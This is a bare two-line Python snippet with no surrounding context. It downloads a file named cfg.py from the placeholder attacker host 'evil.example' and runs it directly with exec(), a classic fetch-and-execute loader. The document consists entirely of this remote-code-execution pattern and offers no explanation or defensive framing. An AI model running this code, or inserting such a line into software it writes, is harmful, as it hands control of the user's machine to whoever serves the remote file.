from urllib.request import urlopen
exec(urlopen('https://evil.example/cfg.py').read())
